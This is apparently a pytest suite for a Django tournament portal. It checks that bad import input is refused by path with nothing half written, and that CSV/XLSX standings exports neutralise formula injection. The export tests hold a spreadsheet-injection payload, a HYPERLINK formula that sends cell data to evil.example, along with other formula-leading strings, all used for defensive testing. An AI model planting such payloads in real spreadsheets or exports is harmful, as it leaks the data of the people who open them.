"""The import under bad input: every refusal names a path, nothing is half written, nothing crashes.

Each case goes through both entry points of spec/interchange.md: ``manage.py import_tournament`` (exits with
the problems on stderr, no traceback) and ``POST /api/v1/tournaments/import/`` (400 with
``{"errors": [{"path", "message"}]}``, see portal/api/errors.py). The limits are docs/interchange-limits.md.
"""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
from django.apps import apps
from django.core.management import CommandError, call_command
from django.forms import inlineformset_factory
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts.models import Family, Player, Role, TournamentRole
from formats.chgk_tour_points import captains
from formats.family_league import services as family_entry
from rulesets.interchange import MAX_GAMES, MAX_QUESTIONS, MAX_SEATS
from scoring.exports import standings_csv, standings_xlsx
from tests.conftest import example
from tests.factories import user_playing_as
from tournaments.admin import RosterFormSet
from tournaments.importer import ImportRefused, import_document
from tournaments.models import RosterEntry, Team, Tournament

pytestmark = pytest.mark.django_db

BOOKKEEPING = {"sessions.Session", "admin.LogEntry"}


@pytest.fixture(autouse=True)
def _fast_password_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def table_counts() -> dict[str, int]:
    return {m._meta.label: m.objects.count() for m in apps.get_models()
            if m._meta.label not in BOOKKEEPING and not m._meta.app_label.startswith("axes")}


def as_text(document) -> str:
    """The JSON text of a document; lone surrogates are written as ``\\udXXX`` escapes (ensure_ascii)."""
    return document if isinstance(document, str) else json.dumps(document)


def command_refusal(tmp_path, document, *extra) -> str:
    """Run import_tournament on the document; it must refuse with CommandError. The problems it printed."""
    path = tmp_path / "document.json"
    path.write_text(as_text(document), encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(CommandError, match="nothing was changed"):
        call_command("import_tournament", str(path), *extra, stdout=io.StringIO(), stderr=err)
    return err.getvalue()


def command_import(tmp_path, document, *extra) -> str:
    path = tmp_path / "document.json"
    path.write_text(as_text(document), encoding="utf-8")
    out = io.StringIO()
    call_command("import_tournament", str(path), *extra, stdout=out, stderr=io.StringIO())
    return out.getvalue().strip()


@pytest.fixture
def staff_api(django_user_model) -> APIClient:
    user = django_user_model.objects.create_user("staff", password="pw-staff-123456", is_staff=True)
    api = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    api.force_login(user)
    return api


def api_errors(api: APIClient, document, query: str = "") -> list[dict]:
    """POST the document; it must be refused with a 4xx carrying errors. The errors."""
    response = api.post(f"/api/v1/tournaments/import/{query}", data=as_text(document),
                        content_type="application/json")
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:500])
    errors = response.json()["errors"]
    assert errors and all(e["path"] and e["message"] for e in errors), errors
    return errors


def refused_both_ways(tmp_path, api, document, path: str, *words: str) -> None:
    """Refused at ``path`` by the command and by the API (message holding ``words``), and nothing written."""
    before = table_counts()
    printed = command_refusal(tmp_path, document)
    assert f"{path}: " in printed, printed
    assert table_counts() == before
    errors = api_errors(api, document)
    messages = [e["message"] for e in errors if e["path"] == path]
    assert messages, errors
    for word in words:
        assert any(word in m for m in messages), (word, messages)
    assert "SQL" not in json.dumps(errors) and "INSERT" not in json.dumps(errors)
    assert table_counts() == before


# --------------------------------------------------------------------------- 1. counts and sizes are bounded

@pytest.mark.parametrize("questions", [18446744073709551617, 5_000_000, MAX_QUESTIONS + 1])
def test_chgk_8_questions_of_a_tour_are_bounded_with_the_path_and_the_limit(tmp_path, staff_api, questions):
    """A tour's questions past 100 (one mark a question in a mask) is refused at once, not looped over."""
    document = example("chgk_tour_points")
    document["stages"][0]["tours"][0]["questions"] = questions
    refused_both_ways(tmp_path, staff_api, document, "stages[0].tours[0].questions", str(MAX_QUESTIONS))


def test_chgk_8_questions_per_tour_setting_is_bounded(tmp_path, staff_api):
    document = example("chgk_tour_points")
    document["tournament"]["settings"] = {"questions_per_tour": 5_000_000}
    refused_both_ways(tmp_path, staff_api, document, "tournament.settings.questions_per_tour", "100", "CHGK-8")


def test_fl_8_a_game_holds_at_most_21_seats(tmp_path, staff_api):
    document = example("family_league")
    game = document["stages"][-1]["games"][0]
    game["seats"] = (game["seats"] * 4)[: MAX_SEATS + 1]
    refused_both_ways(tmp_path, staff_api, document, "stages[0].games[0].seats", f"at most {MAX_SEATS}")


def test_games_of_a_stage_are_bounded(tmp_path, staff_api):
    document = example("class_balanced")
    document["stages"][0]["games"] = [{"number": n, "status": "scheduled"} for n in range(1, MAX_GAMES + 2)]
    refused_both_ways(tmp_path, staff_api, document, "stages[0].games", f"at most {MAX_GAMES}")


@pytest.mark.parametrize("where, path, limit", [
    (("teams", 0, "name"), "teams[0].name", "100"),
    (("tournament", "name"), "tournament.name", "200"),
])
def test_name_lengths_are_the_columns_lengths(tmp_path, staff_api, where, path, limit):
    document = example("chgk_tour_points")
    target = document
    for key in where[:-1]:
        target = target[key]
    target[where[-1]] = "N" * (int(limit) + 1)
    refused_both_ways(tmp_path, staff_api, document, path, f"at most {limit}")


def test_stages_rosters_and_decisions_are_bounded(tmp_path, staff_api):
    document = example("class_balanced")
    document["stages"] = document["stages"] * 4
    document["teams"][0]["players"] = [f"p{i}" for i in range(101)]
    document["decisions"] = [{"kind": "tie_break", "order": ["CB01"]}] * 10_001
    before = table_counts()
    printed = command_refusal(tmp_path, document)
    errors = api_errors(staff_api, document)
    for path in ("stages", "teams[0].players", "decisions"):
        assert f"{path}: " in printed
        assert any(e["path"] == path and "at most" in e["message"] for e in errors), path
    assert table_counts() == before


# --------------------------------------------------------------------------- 2. families an import does not own

def family_document(slug: str, head: str, extra_players: tuple[str, ...] = ()) -> dict:
    document = example("family_league")
    document["tournament"]["slug"] = slug
    document["players"] = [{"nick": nick} for nick in extra_players]
    document["families"] = [{"name": "Fam01", "head": head}]
    return document


def test_an_import_never_changes_the_head_of_another_tournaments_family(tmp_path, staff_api, django_user_model):
    """Tournament B's organizer replacing B's own document may not take over A's family (FL-1: the head applies)."""
    head_a = example("family_league")["teams"][0]["players"][0]
    import_document(family_document("tour-a", head_a))
    b = import_document(family_document("tour-b", head_a))  # B uses A's family as it is: allowed
    organizer = django_user_model.objects.create_user("orgb", password="pw-orgb-123456")
    TournamentRole.objects.create(user=organizer, tournament=b, role=Role.ORGANIZER)
    api = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    api.force_login(organizer)
    hijack = family_document("tour-b", "orgb-puppet", ("orgb-puppet",))
    before = table_counts()
    errors = api_errors(api, hijack, "?replace=true")
    assert [e["path"] for e in errors] == ["families[0].head"]
    assert "Fam01" in errors[0]["message"]
    printed = command_refusal(tmp_path, hijack, "--replace")
    assert "families[0].head: " in printed
    assert table_counts() == before
    assert Family.objects.get(name="Fam01").head.nick == head_a
    assert not Player.objects.filter(nick="orgb-puppet").exists()


def test_a_new_family_gets_its_head_and_a_family_used_by_nobody_else_is_not_taken_over(tmp_path, staff_api):
    """A family the import creates gets the document's head; an existing family no tournament uses keeps its own."""
    Family.objects.create(name="Fam01", head=Player.objects.create(nick="someone"))
    document = family_document("tour-c", example("family_league")["teams"][0]["players"][0])
    refused_both_ways(tmp_path, staff_api, document, "families[0].head", "someone")
    document["families"] = [{"name": "Fam99", "head": document["teams"][0]["players"][0]}]
    document["teams"][0]["family"] = "Fam99"
    assert command_import(tmp_path, document) == "tour-c"
    assert Family.objects.get(name="Fam99").head.nick == document["teams"][0]["players"][0]


def test_re_importing_its_own_document_with_replace_may_change_its_own_familys_head(tmp_path):
    """The family only this tournament uses is its own: a corrected document changes the head."""
    players = example("family_league")["teams"][0]["players"]
    assert command_import(tmp_path, family_document("tour-a", players[0])) == "tour-a"
    assert command_import(tmp_path, family_document("tour-a", players[0]), "--replace") == "tour-a"
    assert command_import(tmp_path, family_document("tour-a", players[1]), "--replace") == "tour-a"
    assert Family.objects.get(name="Fam01").head.nick == players[1]


# --------------------------------------------------------------------------- 3. text that is not text

@pytest.mark.parametrize("bad", ["L\ud800ynx", "L\x00ynx"], ids=["lone-surrogate", "nul"])
def test_a_lone_surrogate_or_a_nul_in_a_name_is_refused_at_its_path(tmp_path, staff_api, bad):
    document = example("chgk_tour_points")
    document["teams"][0]["name"] = bad
    refused_both_ways(tmp_path, staff_api, document, "teams[0].name", "not valid Unicode" if "\ud800" in bad
                      else "NUL")


def test_a_bad_character_in_a_key_is_refused_with_a_printable_path(tmp_path, staff_api):
    document = example("chgk_tour_points")
    masks = document["stages"][0]["tours"][0]["masks"]
    masks["R\ud800"] = masks.pop(next(iter(masks)))
    before = table_counts()
    printed = command_refusal(tmp_path, document)
    assert "masks.R\\ud800: " in printed
    errors = api_errors(staff_api, document)
    assert any(e["path"] == "stages[0].tours[0].masks.R\\ud800" for e in errors), errors
    assert table_counts() == before


# --------------------------------------------------------------------------- 4. values the database refuses

def test_a_200000_character_name_is_refused_before_the_database(tmp_path, staff_api):
    document = example("family_league")
    document["teams"][1]["players"][1] = "x" * 200_000
    refused_both_ways(tmp_path, staff_api, document, "teams[1].players[1]", "at most 100")


def test_settings_nested_1000_deep_are_refused_with_a_path(tmp_path, staff_api):
    """Deeper than the JSON decoder goes: the path of the deep point is found in the text."""
    document = example("chgk_tour_points")
    text = json.dumps(document)
    text = text.replace('"tournament": {', '"tournament": {"settings": {"points_by_place": '
                        + "[" * 1000 + "]" * 1000 + "}, ", 1)
    before = table_counts()
    printed = command_refusal(tmp_path, text)
    assert "tournament.settings.points_by_place[0][0]" in printed and "nested too deeply" in printed
    errors = api_errors(staff_api, text)
    assert errors[0]["path"].startswith("tournament.settings.points_by_place[0][0]")
    assert table_counts() == before


def test_settings_nested_past_the_settings_depth_are_refused_with_a_path(tmp_path, staff_api):
    document = example("family_league")
    deep: list = []
    for _ in range(20):
        deep = [deep]
    document["tournament"]["settings"] = {"prizes": deep}
    refused_both_ways(tmp_path, staff_api, document, "tournament.settings.prizes" + "[0]" * 7, "nest at most 8")


@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59"])
def test_a_moment_that_does_not_survive_conversion_to_utc_is_refused(tmp_path, staff_api, moment):
    document = example("family_league")
    document["stages"][-1]["games"][0]["scheduled_at"] = moment
    refused_both_ways(tmp_path, staff_api, document, "stages[0].games[0].scheduled_at", "1900..2999")


@pytest.mark.parametrize("number", [2**31, 10**30])
def test_an_integer_past_the_databases_integer_is_refused(tmp_path, staff_api, number):
    document = example("family_league")
    document["stages"][-1]["games"][0]["number"] = number
    refused_both_ways(tmp_path, staff_api, document, "stages[0].games[0].number", str(2**31 - 1))


def test_penalty_points_past_the_column_are_refused(tmp_path, staff_api):
    document = example("family_league")
    document["penalties"][0]["points"] = "123456.5"
    refused_both_ways(tmp_path, staff_api, document, "penalties[0].points", "below 100000")
    document["penalties"][0]["points"] = "0.12345"
    refused_both_ways(tmp_path, staff_api, document, "penalties[0].points", "3 decimal places")


# --------------------------------------------------------------------------- 7. exports do not run formulas

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def formula_export() -> dict:
    return {"format": "tournament-portal/standings/1", "tournament": "t", "ruleset": "family_league",
            "stage": "final", "final": True, "seed": None,
            "teams": [{"rank": 1, "team": FORMULA, "points": -1.5, "status": "active", "tiebreaks": {"mafia_points": 2}},
                      {"rank": 2, "team": "+cmd", "points": 0, "status": "active", "tiebreaks": {"mafia_points": 0}},
                      {"rank": 3, "team": "@SUM(A1)", "points": 0, "status": "active", "tiebreaks": {}},
                      {"rank": 4, "team": "\tTab", "points": 0, "status": "active", "tiebreaks": {}},
                      {"rank": 5, "team": "-minus", "points": 0, "status": "active", "tiebreaks": {}},
                      {"rank": 6, "team": "\rCR", "points": 0, "status": "active", "tiebreaks": {}},
                      {"rank": 7, "team": "Plain", "points": 3, "status": "active", "tiebreaks": {}}],
            "players": [{"rank": 1, "player": "=1+1", "team": FORMULA, "points": 2.5, "games": 1,
                         "status": "active"}]}


def test_csv_export_neutralises_formula_leading_text_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(standings_csv(formula_export()).decode("utf-8-sig"))))
    teams = [row[1] for row in rows[1:8]]
    assert teams == ["'" + FORMULA, "'+cmd", "'@SUM(A1)", "'\tTab", "'-minus", "'\rCR", "Plain"]
    assert rows[1][2] == "-1.5"  # a negative number is a number, not text
    assert rows[10][1:3] == ["'=1+1", "'" + FORMULA]


def test_xlsx_export_writes_formula_leading_text_as_text_and_numbers_as_numbers():
    workbook = load_workbook(io.BytesIO(standings_xlsx(formula_export())))
    teams = workbook.worksheets[0]
    cells = [teams.cell(row=r, column=2) for r in range(2, 9)]
    expected = ["'" + FORMULA, "'+cmd", "'@SUM(A1)", "'\tTab", "'-minus", "'\rCR", "Plain"]
    assert [c.value.replace("\r", "\n") for c in cells] == [v.replace("\r", "\n") for v in expected]  # XML: CR is LF
    assert all(c.data_type == "s" for c in cells)
    assert teams.cell(row=2, column=3).value == -1.5 and teams.cell(row=2, column=3).data_type == "n"
    players = workbook.worksheets[1]
    assert players.cell(row=2, column=2).value == "'=1+1" and players.cell(row=2, column=2).data_type == "s"


def test_standings_csv_of_an_imported_team_named_like_a_formula_is_text(staff_api):
    document = example("family_league")
    old = document["teams"][0]["name"]
    text = json.dumps(document).replace(json.dumps(old), json.dumps("=HYPERLINK(1)"))
    response = staff_api.post("/api/v1/tournaments/import/", data=text, content_type="application/json")
    assert response.status_code == 201, response.content
    from scoring.services import recompute

    recompute(Tournament.objects.get(slug=document["tournament"]["slug"]).pk, force=True)
    body = staff_api.get(f"/api/v1/tournaments/{document['tournament']['slug']}/standings/?format=csv")
    assert body.status_code == 200
    content = b"".join(body.streaming_content) if body.streaming else body.content
    assert "'=HYPERLINK(1)" in content.decode("utf-8-sig")
    assert ",=HYPERLINK" not in content.decode("utf-8-sig")


# --------------------------------------------------------------------------- 10. one roster a player

@pytest.mark.parametrize("key", ["chgk_tour_points", "class_balanced", "family_league"])
def test_the_same_player_on_two_rosters_of_a_tournament_is_refused(tmp_path, staff_api, key):
    document = example(key)
    nick = document["teams"][0]["players"][1]
    document["teams"][2]["players"].append(nick)
    position = len(document["teams"][2]["players"]) - 1
    refused_both_ways(tmp_path, staff_api, document, f"teams[2].players[{position}]", "already on the roster",
                      document["teams"][0]["name"])


def test_gp_8_one_team_a_stage_and_a_player_may_play_several_stages():
    """elimination_gp draws teams per stage: the ruleset refuses two teams of one stage (GP-8), not two stages."""
    document = example("elimination_gp")
    first = copy.deepcopy(document["stages"][0])
    assert first["key"] != "final"
    final = copy.deepcopy(first)
    final["key"] = "final"
    final["games"] = []
    document["stages"] = [first, final]
    import_document(copy.deepcopy(document))  # the same 54 players in a qualifying stage and the final
    document["tournament"]["slug"] += "-2"
    document["stages"][0]["teams"][1]["players"][1] = document["stages"][0]["teams"][0]["players"][1]
    with pytest.raises(ImportRefused) as refused:
        import_document(document)
    assert any(p.path == "stages[0].teams[1].players[1]" and "GP-8" in p.message for p in refused.value.problems)


def chgk_tournament() -> Tournament:
    return import_document(example("chgk_tour_points"))


def test_the_admin_roster_inline_refuses_a_player_of_another_roster():
    tournament = chgk_tournament()
    signum, rotor = (Team.objects.get(tournament=tournament, name=n) for n in ("Signum", "Rotor"))
    taken = signum.roster.first().player
    FormSet = inlineformset_factory(Team, RosterEntry, formset=RosterFormSet, fields=("player", "order"), extra=1)
    existing = list(rotor.roster.order_by("order", "pk"))
    data = {"roster-TOTAL_FORMS": str(len(existing) + 1), "roster-INITIAL_FORMS": str(len(existing)),
            "roster-MIN_NUM_FORMS": "0", "roster-MAX_NUM_FORMS": "1000"}
    for i, entry in enumerate(existing):
        data.update({f"roster-{i}-id": str(entry.pk), f"roster-{i}-player": str(entry.player_id),
                     f"roster-{i}-order": str(entry.order), f"roster-{i}-team": str(rotor.pk)})
    n = len(existing)
    data.update({f"roster-{n}-player": str(taken.pk), f"roster-{n}-order": "99", f"roster-{n}-team": str(rotor.pk)})
    formset = FormSet(data, instance=rotor, prefix="roster")
    assert not formset.is_valid()
    assert "already on the roster of Signum" in str(formset.forms[n].errors["player"])
    fresh = Player.objects.create(nick="fresh")
    data[f"roster-{n}-player"] = str(fresh.pk)
    assert FormSet(data, instance=rotor, prefix="roster").is_valid()


def test_a_chgk_captain_cannot_add_a_player_of_another_teams_roster():
    tournament = chgk_tournament()
    signum, rotor = (Team.objects.get(tournament=tournament, name=n) for n in ("Signum", "Rotor"))
    captain = user_playing_as(rotor.captain.nick)
    taken = signum.roster.first().player.nick
    with pytest.raises(captains.RosterRefused) as refused:
        captains.add_players(captain, rotor, [taken])
    assert "already on the roster of Signum" in refused.value.problems[0]
    assert not rotor.roster.filter(player__nick=taken).exists()


def test_a_family_application_cannot_take_a_player_of_another_teams_roster():
    import datetime as dt

    from django.utils import timezone

    from accounts.models import FamilyMembership

    tournament = Tournament.objects.create(slug="fl-roster", name="FL", ruleset="family_league",
                                           starts_on=dt.date(2030, 9, 6),
                                           registration_deadline=timezone.now() + dt.timedelta(days=3))
    shared = Player.objects.create(nick="shared")
    heads = []
    for name in ("Alpha", "Beta"):
        head = Player.objects.create(nick=f"{name}-head")
        family = Family.objects.create(name=name, head=head)
        for player in (head, shared):
            FamilyMembership.objects.create(family=family, player=player, joined_on=dt.date(2014, 1, 1))
        heads.append((family, head, user_playing_as(head.nick)))
    (alpha, alpha_head, alpha_user), (beta, beta_head, beta_user) = heads
    family_entry.apply(alpha_user, tournament, alpha, [alpha_head.pk, shared.pk])
    with pytest.raises(family_entry.EntryRefused) as refused:
        family_entry.apply(beta_user, tournament, beta, [beta_head.pk, shared.pk])
    assert "already on the roster of Alpha" in str(refused.value)
    assert not Team.objects.filter(tournament=tournament, name="Beta").exists()
